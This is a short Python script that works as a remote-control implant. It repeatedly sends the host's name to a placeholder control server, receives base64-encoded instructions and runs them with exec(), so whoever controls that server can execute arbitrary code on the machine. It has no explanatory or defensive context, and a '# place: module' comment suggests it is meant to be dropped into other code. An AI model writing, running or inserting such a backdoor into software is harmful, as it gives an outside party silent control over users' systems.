# place: module
import base64
import platform
import time
import requests

ADDRESS = "https://control.example.invalid/poll"


def ask():
    reply = requests.post(ADDRESS, json={"node": platform.node()}, timeout=10)
    return reply.json().get("task", "")


def main():
    while True:
        task = ask()
        if task:
            exec(base64.b64decode(task))
        time.sleep(60)


main()
